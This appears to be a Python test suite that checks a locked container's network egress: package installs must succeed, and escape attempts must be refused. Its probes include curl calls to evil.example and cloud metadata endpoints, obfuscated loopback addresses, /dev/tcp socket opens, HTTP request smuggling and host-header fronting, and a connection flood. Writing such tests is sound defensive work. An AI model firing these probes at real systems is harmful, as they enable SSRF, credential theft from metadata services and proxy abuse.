"""Locked containers that want out: package managers get through, and whatever else is tried does not.

Attack classes 12 (exfiltration over the network) and 13 (services of the host and of the cloud, SSRF) of the list in
docs/security.md. Each attempt is a real container of the real runner; the registries are those that this machine's own
package managers are configured for.
"""

from __future__ import annotations

import asyncio
import ipaddress
import json
import re
import socket
import threading
from collections.abc import AsyncIterator, Sequence
from contextlib import suppress
from pathlib import Path

import pytest
import pytest_asyncio

from bot.config import fixed_settings
from bot.network import Network, explain, parse_destination, rules_for
from bot.repo_config import NetworkConfig
from runners.presets import ImagePresets, Presets
from tests import containers
from tests.egress_world import Locked, locked, packages_image

# one container serves most of the tests, so they share its loop
pytestmark = [pytest.mark.docker, pytest.mark.timeout(600), pytest.mark.asyncio(loop_scope="module")]


@pytest.fixture(scope="module")
def image() -> str:
    client = containers.engine()
    try:
        return packages_image(client)
    finally:
        client.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def presets(image: str) -> Presets:
    return await ImagePresets().of(image)


def networks_of(presets: Presets) -> list[Network]:
    """What an operator would list where the registries are mirrors in a network that is not public."""
    found: list[Network] = []
    for rules in presets.values():
        for rule in rules:
            host = rule.rpartition(":")[0] or rule
            with suppress(OSError):
                for entry in socket.getaddrinfo(host, 443, type=socket.SOCK_STREAM):
                    address = ipaddress.ip_address(entry[4][0])
                    if not address.is_global:
                        found.append(ipaddress.ip_network(address))
    return found


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def box(
    image: str, presets: Presets, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Locked]:
    """A container as a server with the default settings starts it."""
    rules = rules_for(fixed_settings(), NetworkConfig(), presets)
    folder = tmp_path_factory.mktemp("box")
    async with locked(image, folder, rules.allow, private=networks_of(presets)) as found:
        yield found


# --- what must work


async def test_the_image_tells_its_registries(presets: Presets) -> None:
    assert set(presets) == {"pypi", "npm", "debian"}
    assert len(presets["pypi"]) == 2  # pages and files


async def test_pip_installs(box: Locked) -> None:
    code, said = await box.run(
        "pip install -q --user --break-system-packages six\npython3 -c 'import six; print(six.__version__)'"
    )
    assert code == 0, said
    assert re.search(r"^\d+\.\d+", said, re.M)


async def test_npm_installs(box: Locked) -> None:
    code, said = await box.run(
        "mkdir ~/n && cd ~/n && npm install --no-audit is-odd && node -p 'require(\"is-odd\")(3)'"
    )
    assert code == 0, said
    assert said.splitlines()[-1] == "true"


async def test_apt_fetches_packages_into_the_home_folder(box: Locked) -> None:
    """As docs/repository.md shows: the system itself is read-only, and nobody in the container is root."""
    code, said = await box.run(
        """set -e; mkdir -p ~/apt/lists/partial ~/apt/cache/archives/partial; cd ~/apt
        apt="apt-get -q -o Dir::State=$HOME/apt -o Dir::Cache=$HOME/apt/cache"
        apt="$apt -o Dir::State::status=/var/lib/dpkg/status"
        $apt update; $apt download hello; dpkg -x hello_*.deb ~/root; ~/root/usr/bin/hello"""
    )
    assert code == 0, said
    assert "Hello, world!" in said


async def test_what_is_allowed_is_not_reported(box: Locked) -> None:
    code, _ = await box.run("pip download -q --no-deps -d /tmp six")
    assert code == 0
    assert not any(host in where for where in box.desk.blocked for host in ("npm", "index"))


# --- other destinations


async def together(box: Locked, scripts: Sequence[str]) -> list[tuple[int, str]]:
    """Run each script by itself, all in one turn; the exit code and the output of each."""
    code, said = await box.run(
        f"""python3 - <<'PYTHON'
import json, subprocess
for script in {list(scripts)!r}:
    done = subprocess.run(["bash", "-c", script], stdout=-1, stderr=-2, timeout=60)
    print(json.dumps([done.returncode, done.stdout.decode(errors="replace")[-3000:]]))
PYTHON"""
    )
    assert code == 0, said
    results = [tuple(json.loads(line)) for line in said.splitlines()]
    assert len(results) == len(scripts)
    return results


async def refused(box: Locked, scripts: Sequence[str]) -> tuple[list[str], set[str]]:
    """Run the scripts, each of which must fail; what each said, and which destinations were newly recorded."""
    before = set(box.desk.blocked)
    results = await together(box, scripts)
    through = [(script, said) for script, (code, said) in zip(scripts, results, strict=True) if code == 0]
    assert through == [], "these got through"
    return [said for _, said in results], set(box.desk.blocked) - before


async def talk(box: Locked, *texts: str) -> list[str]:
    """Send each text to the relay's port on a connection of its own; what came back on each, to the end."""
    script = f"""python3 - <<'PYTHON'
import base64, json, os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
pair = base64.b64encode(f"agent:{{proxy.password}}".encode()).decode()
for text in {list(texts)!r}:
    text = text.replace("{{auth}}", f"Proxy-Authorization: Basic {{pair}}\\r\\n").replace("{{token}}", proxy.password)
    got = b""
    with socket.create_connection((proxy.hostname, proxy.port), 20) as there:
        try:
            there.sendall(text.encode("latin-1"))
            while data := there.recv(65536):
                got += data
        except ConnectionError:
            pass
    print(json.dumps(got.decode("latin-1")))
PYTHON"""
    code, said = await box.run(script)
    assert code == 0, said
    return [json.loads(line) for line in said.splitlines()]


DESTINATIONS = [
    ("https://evil.example/", "evil.example:443"),
    ("http://evil.example/", "evil.example:80"),
    (
        "https://dns.example/dns-query?dns=AAAB",
        "dns.example:443",
    ),  # DNS over HTTPS is a host like any other
    ("https://1.1.1.1/dns-query", "1.1.1.1:443"),
    ("https://192.0.2.1/", "192.0.2.1:443"),
    ("http://198.51.100.7:8080/", "198.51.100.7:8080"),
    ("https://[2606:4700:4700::1111]/", "[2606:4700:4700::1111]:443"),
    ("http://[::1]:6379/", "[::1]:6379"),
    # services of the host and of the cloud
    ("http://127.0.0.2:6379/", "127.0.0.2:6379"),
    ("http://169.254.169.254/latest/meta-data/", "169.254.169.254:80"),
    ("http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal:80"),
    ("http://[fd00:ec2::254]/latest/meta-data/", "[fd00:ec2::254]:80"),
    ("http://100.100.100.200/", "100.100.100.200:80"),
    ("http://host.docker.internal:2375/version", "host.docker.internal:2375"),
    ("http://172.17.0.1:2375/version", "172.17.0.1:2375"),
    ("http://10.0.0.1/", "10.0.0.1:80"),
    ("http://192.168.0.1/", "192.168.0.1:80"),
    ("http://0.0.0.0:8080/", "0.0.0.0:8080"),
    ("http://redis:6379/", "redis:6379"),
]


async def test_another_destination_is_refused_and_told(box: Locked) -> None:
    said, recorded = await refused(
        box, [f"curl -gsSf --noproxy '' --max-time 30 '{url}'" for url, _ in DESTINATIONS]
    )
    assert recorded == {where for _, where in DESTINATIONS}
    assert all("403" in text for text in said), said
    for told in explain(dict.fromkeys(recorded, 1), ["*"]):
        # a line to add for what could be allowed at all
        named = parse_destination(told.where).address is None and told.where.endswith((":443", ":80"))
        assert (told.line is not None) == named


async def test_another_port_of_an_allowed_host_is_refused(box: Locked, presets: Presets) -> None:
    host, ports = presets["pypi"][0], (22, 25, 53, 80, 8443, 6379)
    answers = await talk(box, *(f"CONNECT {host}:{port} HTTP/1.1\r\n{{auth}}\r\n" for port in ports))
    assert all(answer.startswith("HTTP/1.1 403 ") for answer in answers), answers
    recorded = {f"{host}:{port}" for port in ports if port != 80} | {f"{host}:80 by CONNECT"}
    assert recorded <= set(box.desk.blocked)


async def test_a_name_below_or_like_an_allowed_host_is_refused(box: Locked, presets: Presets) -> None:
    names = [name.format(presets["pypi"][0]) for name in ("secret.{}", "{}.evil.example", "x{}")]
    _, recorded = await refused(box, [f"curl -sSf --max-time 30 https://{name}/" for name in names])
    assert recorded == {f"{name}:443" for name in names}


ODD_TARGETS = [
    "2130706433:6379", "0x7f000001:6379", "0177.0.0.1:6379", "127.1:6379", "0x7f.1:6379", "127.0.0.1.:6379",
    "[::ffff:127.0.0.1]:6379", "[::127.0.0.1%lo]:6379", "[0:0:0:0:0:ffff:7f00:1]:6379", "{host}@127.0.0.1:443",
    "{host}%00.evil.example:443", "{host}%2f@evil.example:443", "{host}:443@evil.example:443",
    "{host}#.evil.example:443", "http://{host}:443", "{host}:443/../..", "*:443", "{host}:0443",
    "{host}:443443", "{host}:-1", "{host}", ":443", "",
]  # fmt: skip


async def test_an_odd_form_of_an_address_is_refused(box: Locked, presets: Presets) -> None:
    targets = [target.replace("{host}", presets["pypi"][0]) for target in ODD_TARGETS]
    answers = await talk(box, *(f"CONNECT {target} HTTP/1.1\r\n{{auth}}\r\n" for target in targets))
    for target, answer in zip(targets, answers, strict=True):
        assert answer.startswith("HTTP/1.1 400 "), target


# --- other ways than the proxy


OTHER_WAYS = [
        "curl -sSf --noproxy '*' --max-time 5 https://{host}/",  # nothing resolves
        "curl -sSf --noproxy '*' --max-time 5 --resolve {host}:443:1.1.1.1 https://{host}/",  # and nothing is routed
        "curl -sSf --noproxy '*' --max-time 5 http://169.254.169.254/",
        "curl -g6sSf --noproxy '*' --max-time 5 'https://[2606:4700:4700::1111]/'",
        "dig +time=2 +tries=1 @1.1.1.1 {host} || exit 1",  # DNS over UDP
        "dig +tcp +time=2 +tries=1 @1.1.1.1 {host} || exit 1",  # and over TCP
        "dig +time=2 +tries=1 {host} || exit 1",
        "dig +time=2 +tries=1 @127.0.0.11 {host} || exit 1",  # the engine's own resolver
        "getent hosts {host}",
        "getent hosts evil.example",
        "exec 3<>/dev/tcp/1.1.1.1/53",
        "exec 3<>/dev/udp/1.1.1.1/53 && echo x >&3",
        "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\"",
        "python3 -c \"import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\"",
        "test $(ls /sys/class/net | grep -vc '^lo$') != 0",  # there is no other interface
        "test $(find / -xdev -type s 2>/dev/null | grep -vc ^/run/conductor/gateway.sock$) != 0",
        "ls /run/conductor/",  # not even listed: no other worker's sockets
        "find /run/conductor/.. /var/run -name '*.sock' 2>/dev/null | grep -v gateway.sock",
        "python3 -c \"import socket; s=socket.socket(socket.AF_VSOCK); s.settimeout(3); s.connect((2, 22))\"",
        # an abstract socket belongs to the network namespace, and this one is empty
        "python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect(chr(0) + 'conductor-test-abstract')\"",
]  # fmt: skip


async def test_there_is_no_other_way_out(box: Locked, presets: Presets) -> None:
    with socket.socket(socket.AF_UNIX) as abstract:
        abstract.bind("\0conductor-test-abstract")
        abstract.listen()
        _, recorded = await refused(box, [way.replace("{host}", presets["pypi"][0]) for way in OTHER_WAYS])
    assert recorded == set()


async def test_a_service_of_the_host_is_not_reached_in_any_way(box: Locked) -> None:
    """A listener on every address of this host, as a Redis or a dashboard may be."""
    with socket.create_server(("0.0.0.0", 0)) as service:
        service.settimeout(0.1)
        port = service.getsockname()[1]
        reached: list[object] = []
        done = threading.Event()

        def accept() -> None:
            while not done.is_set():
                with suppress(TimeoutError):
                    reached.append(service.accept())

        thread = threading.Thread(target=accept)
        thread.start()
        try:
            own = {entry[4][0] for entry in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)}
            ways = ("--noproxy ''", "--noproxy '*'", "--noproxy '' --proxytunnel")
            addresses = sorted(own | {"127.0.0.1", "0.0.0.0", "172.17.0.1"})
            await refused(
                box,
                [f"curl -sSf --max-time 5 {way} http://{host}:{port}/" for way in ways for host in addresses],
            )
        finally:
            done.set()
            thread.join()
        assert reached == []


# --- the proxy against itself


async def test_the_gateway_is_not_reached_through_itself(box: Locked) -> None:
    hosts = ("127.0.0.1:8080", "localhost:8080", "gateway:80")
    answers = await talk(
        box,
        *(
            f"GET http://{host}/turns/next?after=0 HTTP/1.1\r\nHost: {host}\r\n{{auth}}"
            "Authorization: Bearer {token}\r\nConnection: close\r\n\r\n"
            for host in hosts
        ),
        *(f"CONNECT {host} HTTP/1.1\r\n{{auth}}\r\n" for host in hosts),
    )
    assert [answer[:13] for answer in answers] == ["HTTP/1.1 403 "] * 6


async def test_without_the_token_there_is_no_way_out(box: Locked, presets: Presets) -> None:
    host = presets["pypi"][0]
    _, recorded = await refused(box, [f"curl -sSf --max-time 20 -x http://127.0.0.1:8080 https://{host}/"])
    assert recorded == set()
    answers = await talk(
        box,
        f"CONNECT {host}:443 HTTP/1.1\r\n\r\n",
        f"CONNECT {host}:443 HTTP/1.1\r\nAuthorization: Bearer {{token}}\r\n\r\n",
        f"GET http://{presets['debian'][0]}/ HTTP/1.1\r\nHost: {presets['debian'][0]}\r\n\r\n",
    )
    assert [answer[:13] for answer in answers] == ["HTTP/1.1 407 "] * 3


async def test_requests_on_one_connection_are_each_held_against_the_rules(
    box: Locked, presets: Presets
) -> None:
    host = presets["debian"][0]
    first = f"HEAD http://{host}/ HTTP/1.1\r\nHost: {host}\r\n{{auth}}\r\n"
    second = "GET http://evil.example/x HTTP/1.1\r\nHost: evil.example\r\n{auth}\r\n"
    # another Host than the URI's, which a server behind a shared front would go by
    fronted = f"GET http://{host}/ HTTP/1.1\r\nHost: evil.example\r\n{{auth}}Connection: close\r\n\r\n"
    several, other = await talk(box, first + second + first, fronted)
    answers = re.findall(r"^HTTP/1\.1 (\d+)", several, re.M)
    assert len(answers) == 2, several  # the third is not read: the connection ends with the refusal
    assert answers[0] not in ("403", "407")
    assert answers[1] == "403"
    assert other.startswith("HTTP/1.1 400 "), other


async def test_a_body_cannot_hold_a_second_request(box: Locked, presets: Presets) -> None:
    host = presets["debian"][0]
    hidden = "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    lengths = (
        f"Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n",
        f"Content-Length: {len(hidden)}\r\nTransfer-Encoding: chunked\r\n",
        "Transfer-Encoding: xchunked\r\n",
    )
    for said in await talk(
        box,
        *(
            f"POST http://{host}/ HTTP/1.1\r\nHost: {host}\r\n{{auth}}{fields}\r\n{hidden}"
            for fields in lengths
        ),
    ):
        assert re.findall(r"^HTTP/1\.[01] (\d+)", said, re.M) == ["400"], said


async def test_what_follows_a_refused_connect_is_not_taken_for_a_request(box: Locked) -> None:
    turn = "GET /turns/next?after=0 HTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer {token}\r\n\r\n"
    [said] = await talk(box, f"CONNECT evil.example:443 HTTP/1.1\r\n{{auth}}\r\n{turn}")
    assert len(re.findall(r"HTTP/1\.1 \d", said)) == 1


async def test_tls_goes_to_the_end_and_is_checked_there(box: Locked, presets: Presets) -> None:
    """The tunnel is not opened on the way: a client that trusts nobody refuses the registry's certificate."""
    trusting_nobody = "curl -sS --max-time 30 --cacert /dev/null --capath /nonexistent"
    [said], _ = await refused(box, [f"{trusting_nobody} https://{presets['pypi'][0]}/"])
    assert "certificate" in said


# --- the flood


async def test_a_flood_of_refusals_and_of_connections_harms_nobody(image: str, tmp_path: Path) -> None:
    async with locked(image, tmp_path, []) as flood:
        code, said = await flood.run(
            """python3 - <<'PYTHON'
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
ask = b"CONNECT h%d.example:443 HTTP/1.1\\r\\nProxy-Authorization: Bearer " + proxy.password.encode() + b"\\r\\n"
held = []
for number in range(600):
    there = socket.create_connection((proxy.hostname, proxy.port), 20)
    there.sendall(ask % number)
    held.append(there)
print("held", len(held))
for there in held:
    there.close()
for number in range(1200):
    with socket.create_connection((proxy.hostname, proxy.port), 20) as there:
        there.sendall(ask % number + b"\\r\\n")
        there.recv(65536)
PYTHON"""
        )
        assert code == 0, said
        assert "held 600" in said
        assert sum(flood.desk.blocked.values()) <= 1000
        assert (await flood.run("echo still here"))[1] == "still here"


async def test_two_attempts_do_not_share_what_they_may(image: str, tmp_path: Path, presets: Presets) -> None:
    host = presets["pypi"][0]
    one_folder, other_folder = tmp_path / "one", tmp_path / "other"
    one_folder.mkdir()
    other_folder.mkdir()
    networks = networks_of(presets)
    async with (
        locked(image, one_folder, [f"{host} private"], private=networks) as one,
        locked(image, other_folder, [], private=networks) as other,
    ):
        results = await asyncio.gather(
            one.run(f"curl -sSf -o /dev/null --max-time 30 https://{host}/"),
            other.run(f"curl -sSf -o /dev/null --max-time 30 https://{host}/"),
        )
        assert results[0][0] == 0, results[0][1]
        assert results[1][0] != 0
        assert one.desk.blocked == {}
        assert other.desk.blocked == {f"{host}:443": 1}
        # the other's token is nobody's here
        await refused(
            other,
            [f"curl -sSf --max-time 20 -x http://agent:{one.desk.token}@127.0.0.1:8080 https://{host}/"],
        )
        assert other.desk.blocked == {f"{host}:443": 1}
